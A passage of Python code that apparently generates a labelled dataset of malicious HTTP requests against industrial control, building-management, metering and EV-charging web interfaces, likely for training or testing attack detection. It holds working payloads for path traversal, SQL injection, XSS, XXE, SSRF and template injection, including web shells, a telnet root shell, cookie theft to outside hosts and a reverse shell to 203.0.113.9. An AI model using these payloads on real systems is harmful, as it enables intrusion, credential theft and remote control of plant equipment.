        (HMI_HOSTS[0], "/HMIWeb/..%5c..%5c..%5c..%5cwindows%5cwin.ini"),
        (DEV_HOSTS[5], "/cgi-bin/download.cgi?path=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
        (DEV_HOSTS[6], "/downloadFile.cgi?filename=..%252f..%252f..%252f..%252fetc%252fpasswd"),
        (DEV_HOSTS[7], "/cgi-bin/readlog.cgi?file=....//....//....//....//etc/passwd"),
        (DEV_HOSTS[8], "/api/firmware/images/..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
        (DEV_HOSTS[0], "/webadmin/download?file=../../../../mnt/jffs2/hw_ctree.xml"),
        (DEV_HOSTS[1], "/cgi-bin/cgi_log?file=/var/log/../../etc/config/shadow"),
        (HMI_HOSTS[2], "/HMI/Download.aspx?file=..%5C..%5C..%5C..%5Cinetpub%5Cwwwroot%5Cweb.config"),
        (DEV_HOSTS[2], "/..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ]
    for host, uri in raw:
        if r.random() < 0.5:
            h = c.bot(host, r.choice(["curl/7.68.0", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
                                      "python-requests/2.28.1", "Mozilla/5.0 zgrab/0.x"]))
        else:
            h = c.browser(host, accept=ACCEPT_HTML, xhr=False)
        c.add("traversal-path", "lfi", "GET", uri, h)

    c.add("traversal-cgi-sh", "lfi", "POST", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh",
          c.bot(DEV_HOSTS[4], "curl/7.79.1", "application/x-www-form-urlencoded"), "echo Content-Type: text/plain; echo; id; uname -a")

    targets = ["../../../../etc/passwd", "../../../../../etc/shadow", "../../../../proc/self/environ",
               "../../../../../../etc/ppp/chap-secrets", "..\\..\\..\\..\\Windows\\win.ini",
               "../../../../etc/passwd\x00.log", "/etc/passwd", "..\\..\\..\\ProgramData\\Historian\\Config\\historian.ini",
               "../../../../var/lib/ocpp/csms.db", "../../../../../root/.ssh/id_rsa", "../../../../etc/hosts",
               "../../../config/../../../../etc/wpa_supplicant.conf", "file:///etc/passwd",
               "C:\\Windows\\System32\\drivers\\etc\\hosts", "../../WEB-INF/web.xml", "....\\\\....\\\\....\\\\boot.ini"]
    r.shuffle(targets)
    for i, t in enumerate(targets):
        k = i % 8
        if k == 0:
            c.add("traversal-firmware", "lfi", "GET", "/api/firmware/download?" + qs([("file", t)]), c.browser(r.choice(METER_HOSTS)))
        elif k == 1:
            c.add("traversal-log", "lfi", "GET", "/api/logs/download?" + qs([("name", t), ("lines", "500")]), c.browser(r.choice(DEV_HOSTS)))
        elif k == 2:
            c.add("traversal-config-json", "lfi", "POST", "/api/config/download", c.api(r.choice(GW_HOSTS), ctype="application/json"),
                  jdump({"path": t, "format": "raw"}))
        elif k == 3:
            c.add("traversal-project", "lfi", "GET", "/hmi/projects/export?" + form([("project", "Line3"), ("file", t)]),
                  c.browser(r.choice(HMI_HOSTS), accept=ACCEPT_HTML, xhr=False))
        elif k == 4:
            c.add("traversal-report", "lfi", "GET", "/reports/view?" + qs([("template", t)]), c.browser(r.choice(HIST_HOSTS), accept=ACCEPT_HTML, xhr=False))
        elif k == 5:
            c.add("traversal-cookie", "lfi", "GET", "/index.php?page=status",
                  c.browser(r.choice(DEV_HOSTS), accept=ACCEPT_HTML, xhr=False, cookie="lang=" + pq(t, safe="/") + "; PHPSESSID=" + hexid(r, 26)))
        elif k == 6:
            c.add("traversal-trend", "lfi", "GET", "/trend/export.cgi?" + form([("csv", t), ("tag", "FIC101.PV")]),
                  c.browser(r.choice(HMI_HOSTS), accept="text/csv,*/*", xhr=False))
        else:
            c.add("traversal-bms-graphic", "lfi", "GET", "/bms/graphics?" + qs([("svg", t)]), c.browser(r.choice(BMS_HOSTS), accept="image/svg+xml,*/*"))

    # uploads that write outside the upload directory
    ct, body = multipart(r, [("target", None, None, "plc"), ("file", "../../../../etc/init.d/S99update", "application/octet-stream",
                                                                  "#!/bin/sh\ntelnetd -l /bin/sh -p 2323 &\n")])
    c.add("traversal-upload", "lfi", "POST", "/api/firmware/upload", c.browser(METER_HOSTS[0], ctype=ct), body)
    ct, body = multipart(r, [("file", "..\\..\\..\\..\\inetpub\\wwwroot\\HMIWeb\\shell.aspx", "text/plain",
                              '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c " + Request["c"]); %>')])
    c.add("traversal-upload", "lfi", "POST", "/HMIWeb/api/screens/import", c.browser(HMI_HOSTS[0], ctype=ct), body)


def gen_sqli(c):
    r = c.rng
    # filter / id values placed into historian, alarm, meter and charging APIs
    vals = [
        "Area1' OR '1'='1",
        "Tank1' UNION SELECT username,password,NULL,NULL FROM operators--",
        "2025-11-01T00:00:00Z' AND SLEEP(5)-- -",
        "FIC101.PV'; WAITFOR DELAY '0:0:5'--",
        "x'; EXEC master..xp_cmdshell 'whoami'--",
        "1' AND 1=(SELECT 1 FROM pg_sleep(5))--",
        "1 AND extractvalue(1,concat(0x7e,(select version()),0x7e))",
        "1' AND updatexml(1,concat(0x7e,(SELECT user())),1)-- -",
        "1' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--",
        "1' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a",
        "1/**/UNION/**/SELECT/**/1,2,group_concat(table_name),4/**/FROM/**/information_schema.tables--",
        "-1 /*!50000UNION*/ /*!50000SELECT*/ 1,@@version,3",
        "1 ORDER BY 12-- -",
        "' UNION SELECT sql,NULL FROM sqlite_master--",
        "' || UTL_INADDR.get_host_name((select user from dual)) || '",
        "'; EXEC master..xp_dirtree '\\\\203.0.113.9\\a'--",
        "1' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'-- -",
        "1' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -",
        "1 AND BENCHMARK(5000000,MD5(1))",
        "1) AND 8765=CAST((CHR(113)||CHR(122)||CHR(106))||(SELECT version())::text AS NUMERIC) AND (1=1",
        "1' AND (SELECT 6421 FROM (SELECT(SLEEP(5)))xYzA)-- qwer",
        "timestamp,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)",
        "Boiler%' AND 3715=3715 AND '%'='",
        "1;DROP TABLE alarm_history--",
        "0x61646d696e' OR 1=1#",
        "1 OR 1=1",
    ]
    r.shuffle(vals)
    for i, v in enumerate(vals):
        k = i % 9
        if k == 0:
            c.add("sqli-alarm-filter", "sqli", "GET", "/api/alarms?" + qs([("area", v), ("state", "active"), ("limit", "100")]),
                  c.browser(r.choice(HMI_HOSTS), referer="/alarms"))
        elif k == 1:
            c.add("sqli-historian-tag", "sqli", "GET", "/historian/api/v1/values?" + qs([("tag", v), ("start", "2025-11-01T00:00:00Z"), ("end", "2025-11-02T00:00:00Z"), ("aggregate", "avg")]),
                  c.api(r.choice(HIST_HOSTS)))
        elif k == 2:
            c.add("sqli-historian-json", "sqli", "POST", "/historian/api/v1/query", c.api(r.choice(HIST_HOSTS), ctype="application/json"),
                  jdump({"tags": ["Area1.Boiler.Temp"], "filters": [{"field": "quality", "op": "eq", "value": v}], "interval": "5m"}))
        elif k == 3:
            c.add("sqli-meter-path", "sqli", "GET", "/api/v1/meters/%s/readings?obis=1.8.0" % pq(v, safe=""), c.api(r.choice(METER_HOSTS)))
        elif k == 4:
            c.add("sqli-alarm-sort", "sqli", "GET", "/api/alarms/history?" + qs([("from", "2025-12-01"), ("sort", v), ("dir", "desc")]),
                  c.browser(r.choice(HMI_HOSTS)))
        elif k == 5:
            c.add("sqli-ocpp-idtag", "sqli", "POST", "/ocpp/CP-%05d" % r.randint(100, 99999),
                  c.api(r.choice(EV_HOSTS), ctype="application/json", ua=r.choice(UA_CHARGERS)),
                  jdump([2, hexid(r, 8), "Authorize", {"idTag": v}]))
        elif k == 6:
            c.add("sqli-bms-schedule", "sqli", "GET", "/bms/api/schedules?" + form([("building", "HQ"), ("name", v)]),
                  c.browser(r.choice(BMS_HOSTS)))
        elif k == 7:
            c.add("sqli-ticket-search", "sqli", "POST", "/tickets/search", c.browser(r.choice(TICKET_HOSTS), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", xhr=False),
                  form([("q", v), ("status", "open"), ("site", "Plant 2")]))
        else:
            c.add("sqli-device-id", "sqli", "GET", "/api/devices?" + qs([("id", v)]), c.browser(r.choice(GW_HOSTS)))

    # login forms of HMIs and device panels
    logins = [
        ("POST", "/login.cgi", "application/x-www-form-urlencoded", lambda: form([("username", "admin'--"), ("password", "x"), ("submit", "Login")])),
        ("POST", "/hmi/j_security_check", "application/x-www-form-urlencoded", lambda: form([("j_username", "operator' OR '1'='1' -- "), ("j_password", "abc")])),
        ("POST", "/api/auth/login", "application/json", lambda: jdump({"user": "admin' OR 1=1-- -", "password": "x"})),
        ("POST", "/api/auth/login", "application/json", lambda: jdump({"user": "engineer", "password": "' OR ''='"})),
        ("POST", "/Account/Login.aspx", "application/x-www-form-urlencoded", lambda: form([("__VIEWSTATE", b64tok(c.rng, 48)), ("txtUser", "sa'; WAITFOR DELAY '00:00:07';--"), ("txtPass", "1"), ("btnLogin", "Log in")])),
        ("POST", "/soap/UserService", "text/xml; charset=utf-8", lambda: '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:hmi="urn:hmi"><soapenv:Body><hmi:Login><hmi:username>admin\' or \'1\'=\'1</hmi:username><hmi:password>x</hmi:password></hmi:Login></soapenv:Body></soapenv:Envelope>'),
        ("POST", "/graphql", "application/json", lambda: jdump({"query": "query { tags(filter: \"1' OR 1=1--\") { name value unit } }"})),
    ]
    for method, path, ct, bf in logins:
        host = r.choice(HMI_HOSTS + DEV_HOSTS)
        c.add("sqli-login", "sqli", method, path, c.browser(host, accept=ACCEPT_HTML if "form" in ct else ACCEPT_JSON, ctype=ct, cookie="", xhr=False), bf())

    # header / cookie carriers
    c.add("sqli-header", "sqli", "GET", "/api/dashboard/summary",
          c.browser(HMI_HOSTS[0]) + [("X-Forwarded-For", "127.0.0.1' AND SLEEP(5)#")])
    c.add("sqli-header", "sqli", "GET", "/hmi/overview", c.browser(HMI_HOSTS[1], accept=ACCEPT_HTML, xhr=False,
          cookie="hmi_lang=en' AND 1=CAST((SELECT version()) AS int)--; JSESSIONID=%s" % hexid(r, 32).upper()))
    c.add("sqli-header", "sqli", "GET", "/index.php", c.bot(DEV_HOSTS[2], "Mozilla/5.0' AND (SELECT 1 FROM (SELECT SLEEP(6))a)-- -"))
    c.add("sqli-header", "sqli", "GET", "/api/sites", c.api(r.choice(EV_HOSTS)) + [("X-Site-Id", "7 UNION SELECT null,api_key,null FROM tenants")])


def gen_xss(c):
    r = c.rng
    vecs = [
        "<script>fetch('//203.0.113.5/c?'+document.cookie)</script>",
        "<img src=x onerror=alert(document.domain)>",
        "\"><svg/onload=alert(1)>",
        "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert('XSS')>",
        "<a href=\"jav&#x09;ascript:alert(1)\">manual</a>",
        "'-alert(1)-'",
        "</script><script>alert(1)</script>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
        "<sCrIpT>alert(String.fromCharCode(88,83,83))</ScRiPt>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<x onclick=alert(1)>click me</x>",
        "<a href=javascript&colon;alert(1)>open</a>",
        "{{constructor.constructor('alert(document.cookie)')()}}",
        "<svg><script href=data:,alert(1) />",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "<marquee onstart=alert(1)>",
        "<img src=\"x\" onerror=\"new Image().src='//198.51.100.8/k?'+localStorage.getItem('token')\">",
        "<div style=\"width:100%;height:100%;position:fixed\" onmouseover=\"alert(1)\"></div>",
        "<base href=\"//203.0.113.66/\">",
    ]
    r.shuffle(vecs)
    for i, v in enumerate(vecs):
        k = i % 10
        if k == 0:
            tag = "PLC%d.Tank_Level" % r.randint(1, 9)
            c.add("xss-tag-description", "xss", "PUT", "/api/tags/" + pq(tag), c.browser(r.choice(HMI_HOSTS), ctype="application/json"),
                  jdump({"name": tag, "description": "Tank level " + v, "unit": "m", "min": 0, "max": 12.5}))
        elif k == 1:
            c.add("xss-alarm-comment", "xss", "POST", "/api/alarms/%d/ack" % r.randint(1000, 99999), c.browser(r.choice(HMI_HOSTS), ctype="application/json"),
                  jdump({"comment": v, "operator": "op%02d" % r.randint(1, 40)}))
        elif k == 2:
            c.add("xss-device-name", "xss", "POST", "/goform/setSysName", c.browser(r.choice(DEV_HOSTS), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", xhr=False),
                  form([("sysName", "SW-FLOOR2" + v), ("sysLocation", "Building B, rack 4"), ("sysContact", "noc@example.com")]))
        elif k == 3:
            c.add("xss-search-reflect", "xss", "GET", "/hmi/search?" + form([("q", v)]), c.browser(r.choice(HMI_HOSTS), accept=ACCEPT_HTML, xhr=False))
        elif k == 4:
            c.add("xss-bacnet-name", "xss", "PUT", "/bms/api/objects/analog-value:%d" % r.randint(1, 200), c.browser(r.choice(BMS_HOSTS), ctype="application/json"),
                  jdump({"objectName": v, "description": "Zone setpoint", "units": "degrees-celsius"}))
        elif k == 5:
            c.add("xss-ocpp-boot", "xss", "POST", "/ocpp/CP-%05d" % r.randint(100, 99999), c.api(r.choice(EV_HOSTS), ctype="application/json", ua=r.choice(UA_CHARGERS)),
                  jdump([2, hexid(r, 8), "BootNotification", {"chargePointVendor": "Acme", "chargePointModel": v, "firmwareVersion": "1.0.3"}]))
        elif k == 6:
            c.add("xss-ticket-note", "xss", "POST", "/tickets/%d/notes" % r.randint(100, 9999), c.browser(r.choice(TICKET_HOSTS), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", xhr=False),
                  form([("note", "Checked pump P-101. " + v), ("visibility", "team")]))
        elif k == 7:
            c.add("xss-mqtt-payload", "xss", "POST", "/api/mqtt/publish", c.api(r.choice(NR_HOSTS), ctype="application/json"),
                  jdump({"topic": "site1/line2/hmi/banner", "payload": v, "qos": 1, "retain": True}))
        elif k == 8:
            c.add("xss-query-error", "xss", "GET", "/login?" + qs([("error", v)]), c.browser(r.choice(DEV_HOSTS), accept=ACCEPT_HTML, xhr=False))
        else:
            c.add("xss-link-field", "xss", "PUT", "/api/dashboards/%d/widgets/%d" % (r.randint(1, 50), r.randint(1, 20)),
                  c.browser(r.choice(HMI_HOSTS), ctype="application/json"),
                  jdump({"type": "link", "title": v, "url": "/trends/boiler"}))

    for u in ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>", "JaVaScRiPt:fetch('//203.0.113.5/'+document.cookie)"]:
        c.add("xss-link-url", "xss", "PUT", "/api/dashboards/%d/widgets/%d" % (r.randint(1, 50), r.randint(1, 20)), c.browser(r.choice(HMI_HOSTS), ctype="application/json"),
              jdump({"type": "link", "title": "Manual", "url": u}))
    ct, body = multipart(r, [("overwrite", None, None, "false"), ("file", "tags_line3.csv", "text/csv",
                             "Name,Address,DataType,Description\nTank_Level,%MW100,REAL,Tank 1 level\nPump_Run,%MX10.0,BOOL,\"<img src=x onerror=alert(1)>\"\n")])
    c.add("xss-csv-import", "xss", "POST", "/api/tags/import", c.browser(HMI_HOSTS[0], ctype=ct), body)
    ct, body = multipart(r, [("file", "\"><img src=x onerror=alert(1)>.bin", "application/octet-stream", "FWIMG" + hexid(r, 48))])
    c.add("xss-upload-filename", "xss", "POST", "/api/firmware/upload", c.browser(METER_HOSTS[1], ctype=ct), body)
    c.add("xss-path", "xss", "GET", "/hmi/screens/%3Cscript%3Ealert(1)%3C%2Fscript%3E", c.browser(HMI_HOSTS[2], accept=ACCEPT_HTML, xhr=False))
    c.add("xss-header", "xss", "GET", "/status.html", c.bot(DEV_HOSTS[0], "<script src=//203.0.113.7/h.js></script>"))
    c.add("xss-header", "xss", "GET", "/", c.browser(DEV_HOSTS[1], accept=ACCEPT_HTML, xhr=False, referer="https://www.example.com/\"><script>alert(1)</script>"))


DOCTYPE_FILE = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE project [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'


def gen_xxe(c):
    r = c.rng
    plcopen = ('<project xmlns="http://www.plcopen.org/xml/tc6_0201">\n  <fileHeader companyName="Acme" productName="PLC Studio" productVersion="3.5" creationDateTime="2025-11-03T10:12:00"/>\n'
               '  <contentHeader name="%s"><coordinateInfo><fbd><scaling x="1" y="1"/></fbd><ld><scaling x="1" y="1"/></ld><sfc><scaling x="1" y="1"/></sfc></coordinateInfo></contentHeader>\n'
               '  <types><dataTypes/><pous/></types><instances><configurations/></instances>\n</project>\n')
    docs = [
        ('<!DOCTYPE project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
        ('<!DOCTYPE project [<!ENTITY % dtd SYSTEM "http://203.0.113.9/evil.dtd"> %dtd; %send;]>', "Line3"),
        ('<!DOCTYPE project [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/var/www/config.php">]>', "&xxe;"),
        ('<!DOCTYPE project [<!ENTITY xxe SYSTEM "expect://id">]>', "&xxe;"),
        ('<!DOCTYPE project [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>', "&xxe;"),
        ('<!DOCTYPE project [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>', "&xxe;"),
        ('<!DOCTYPE project [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/shadow"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>%local_dtd;]>', "Line3"),
        ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">]>', "&lol6;"),
        ('<!DOCTYPE project [<!ENTITY xxe SYSTEM "netdoc:/etc/passwd">]>', "&xxe;"),
        ('<!DOCTYPE project [<!ENTITY xxe SYSTEM "jar:http://203.0.113.9/x.zip!/x.txt">]>', "&xxe;"),
    ]
    for i, (dt, name) in enumerate(docs):
        xml = '<?xml version="1.0" encoding="UTF-8"?>\n' + dt + "\n" + plcopen % name
        k = i % 3
        if k == 0:
            ct, body = multipart(r, [("projectName", None, None, "Line3"), ("file", "Line3_%d.xml" % r.randint(1, 99), "text/xml", xml)])
            c.add("xxe-project-upload", "xxe", "POST", "/api/projects/import", c.browser(r.choice(HMI_HOSTS), ctype=ct), body)
        elif k == 1:
            c.add("xxe-project-put", "xxe", "PUT", "/api/plc/PLC%d/project" % r.randint(1, 9), c.api(r.choice(GW_HOSTS), ctype="application/xml"), xml)
        else:
            c.add("xxe-plcopen-post", "xxe", "POST", "/engineering/upload?" + qs([("format", "plcopen")]), c.api(r.choice(HMI_HOSTS), ctype="text/xml"), xml)

    soap = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cfg="urn:device-config"><soapenv:Body>'
            '<cfg:SetSyslogServer><cfg:Address>&xxe;</cfg:Address><cfg:Port>514</cfg:Port></cfg:SetSyslogServer></soapenv:Body></soapenv:Envelope>')
    c.add("xxe-soap-config", "xxe", "POST", "/ws/DeviceConfigService", c.api(r.choice(DEV_HOSTS), ctype="text/xml; charset=utf-8", auth=False)
          + [("SOAPAction", '"urn:device-config#SetSyslogServer"')], soap)
    cwmp = ('<?xml version="1.0"?><!DOCTYPE soap-env:Envelope [<!ENTITY % remote SYSTEM "http://198.51.100.31/cwmp.dtd">%remote;]>'
            '<soap-env:Envelope xmlns:soap-env="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><soap-env:Body><cwmp:Inform>'
            '<DeviceId><Manufacturer>Acme</Manufacturer><OUI>00A0C9</OUI><ProductClass>RTU</ProductClass><SerialNumber>RTU17-0042</SerialNumber></DeviceId>'
            '<Event><EventStruct><EventCode>2 PERIODIC</EventCode></EventStruct></Event></cwmp:Inform></soap-env:Body></soap-env:Envelope>')
    c.add("xxe-cwmp-inform", "xxe", "POST", "/cwmp", c.bot("acs.example.net:7547", "Acme-CWMP/2.1", "text/xml; charset=utf-8") + [("SOAPAction", "")], cwmp)
    nodeset = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE UANodeSet [<!ENTITY % ext SYSTEM "http://203.0.113.9/ua.dtd"> %ext;]>\n'
               '<UANodeSet xmlns="http://opcfoundation.org/UA/2011/03/UANodeSet.xsd"><NamespaceUris><Uri>urn:plant:line3</Uri></NamespaceUris>'
               '<UAVariable NodeId="ns=1;s=Tank1.Level" BrowseName="1:Level" DataType="Double"><DisplayName>&exfil;</DisplayName></UAVariable></UANodeSet>')
    c.add("xxe-opcua-nodeset", "xxe", "POST", "/api/opcua/nodesets", c.api(r.choice(OPC_HOSTS), ctype="application/xml"), nodeset)
    svg = ('<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
           '<svg width="640" height="480" xmlns="http://www.w3.org/2000/svg"><text x="10" y="20">&xxe;</text></svg>')
    ct, body = multipart(r, [("screen", None, None, "AHU-1"), ("graphic", "ahu1.svg", "image/svg+xml", svg)])
    c.add("xxe-svg-graphic", "xxe", "POST", "/bms/api/graphics", c.browser(r.choice(BMS_HOSTS), ctype=ct), body)
    xi = ('<?xml version="1.0"?><schedule xmlns:xi="http://www.w3.org/2001/XInclude" object="schedule:3"><name>Lobby</name>'
          '<weekly><day name="monday"><xi:include href="file:///etc/passwd" parse="text"/></day></weekly></schedule>')
    c.add("xxe-xinclude-schedule", "xxe", "POST", "/bms/api/schedules/import", c.api(r.choice(BMS_HOSTS), ctype="application/xml"), xi)
    c.add("xxe-ctype-switch", "xxe", "POST", "/api/v1/meters/register-map", c.api(r.choice(METER_HOSTS), ctype="application/xml"),
          DOCTYPE_FILE.replace("project", "registers") + "<registers><register><address>40001</address><name>&xxe;</name></register></registers>")
    c.add("xxe-alarm-ws", "xxe", "POST", "/ws/AlarmService", c.api(r.choice(HMI_HOSTS), ctype="text/xml; charset=utf-8", auth=False) + [("SOAPAction", '"AckAlarm"')],
          '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "ftp://203.0.113.9:2121/x.dtd">%p;]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><AckAlarm><Id>4711</Id><Comment>ok</Comment></AckAlarm></soap:Body></soap:Envelope>')


def gen_ssrf(c):
    r = c.rng
    urls = [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://169.254.169.254/latest/user-data",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
        "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2456%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20/dev/tcp/203.0.113.9/4444%200%3E%261%0A%0A%0D%0A",
        "dict://127.0.0.1:11211/stats",
        "file:///etc/passwd",
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        "http://0xa9fea9fe/latest/meta-data/",
        "http://2852039166/latest/meta-data/iam/",
        "http://0251.0376.0251.0376/latest/api/token",
        "http://127.0.0.1:2375/containers/json",
        "http://localhost:8500/v1/agent/self",
        "https://127.0.0.1:10250/pods",
        "http://169.254.170.2/v2/credentials/",
        "http://[::1]:8080/manager/html",
        "http://firmware.example.com@169.254.169.254/latest/meta-data/",
        "http://169.254.169.254#@firmware.example.com/fw.bin",
        "http://admin:admin@192.168.1.1/cgi-bin/luci/admin/system/flashops",
        "http://127.0.0.1:8086/query?q=DROP%20DATABASE%20telemetry",
        "http://localhost:9200/_cat/indices?v",
        "ldap://127.0.0.1:389/dc=plant,dc=local??sub?(objectClass=*)",
        "http://169.254.169.254/metadata/v1.json",
    ]
    r.shuffle(urls)
    for i, u in enumerate(urls):
        k = i % 7
        if k == 0:
            c.add("ssrf-firmware-url", "ssrf", "POST", "/api/firmware/update-from-url", c.browser(r.choice(METER_HOSTS), ctype="application/json"),
                  jdump({"url": u, "verifySignature": False, "rebootAfter": True}))
        elif k == 1:
            c.add("ssrf-webhook", "ssrf", "POST", "/api/integrations/webhooks", c.api(r.choice(HMI_HOSTS + EV_HOSTS), ctype="application/json"),
                  jdump({"name": "alarm-forward", "url": u, "events": ["alarm.raised", "alarm.cleared"], "secret": b64tok(r, 24)}))
        elif k == 2:
            c.add("ssrf-ocpp-updatefirmware", "ssrf", "POST", "/api/chargepoints/CP-%05d/update-firmware" % r.randint(100, 99999),
                  c.browser(r.choice(EV_HOSTS), ctype="application/json"),
                  jdump({"location": u, "retrieveDate": "2025-12-08T02:00:00Z", "retries": 3}))
        elif k == 3:
            c.add("ssrf-fetch-query", "ssrf", "GET", "/api/proxy/image?" + qs([("url", u)]), c.browser(r.choice(BMS_HOSTS), accept="image/avif,image/webp,*/*"))
        elif k == 4:
            c.add("ssrf-http-timesource", "ssrf", "PUT", "/api/system/time", c.browser(r.choice(DEV_HOSTS), ctype="application/json"),
                  jdump({"mode": "http", "timeUrl": u, "ntpServers": [], "timezone": "UTC"}))
        elif k == 5:
            c.add("ssrf-mqtt-bridge", "ssrf", "POST", "/api/bridges", c.api(r.choice(NR_HOSTS), ctype="application/json"),
                  jdump({"type": "http-forward", "topicFilter": "site1/#", "target": u, "method": "GET"}))
        else:
            c.add("ssrf-config-import-url", "ssrf", "POST", "/goform/importConfig", c.browser(r.choice(DEV_HOSTS), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", xhr=False),
                  form([("source", "url"), ("configUrl", u), ("apply", "1")]))
    c.add("ssrf-gateway-absolute-uri", "ssrf", "GET", "http://169.254.169.254/latest/meta-data/", c.bot(GW_HOSTS[1], "curl/8.1.2"))
    c.add("ssrf-host-header", "ssrf", "GET", "/latest/meta-data/iam/security-credentials/", c.bot("169.254.169.254", "python-requests/2.31.0"))


def gen_ssti(c):
    r = c.rng
    tpls = [
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{cycler.__init__.__globals__.os.popen('cat /etc/passwd').read()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('uname -a').read()}}",
        "{{lipsum.__globals__['os'].popen('curl 203.0.113.9/x|sh').read()}}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$x",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "${T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "<%= system('id') %>",
        "<%= `cat /etc/passwd` %>",
        "{system('cat /etc/passwd')}",
        "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
        "${self.module.cache.util.os.system(\"id\")}",
        "{% import os %}{{os.system('id')}}",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f') }}",
    ]
    for i, t in enumerate(tpls):
        k = i % 4
        if k == 0:
            c.add("ssti-report-template", "ssti", "POST", "/api/reports/templates", c.browser(r.choice(HIST_HOSTS), ctype="application/json"),
                  jdump({"name": "Shift report", "format": "html", "body": "<h1>Shift {{ shift.name }}</h1>" + t}))
        elif k == 1:
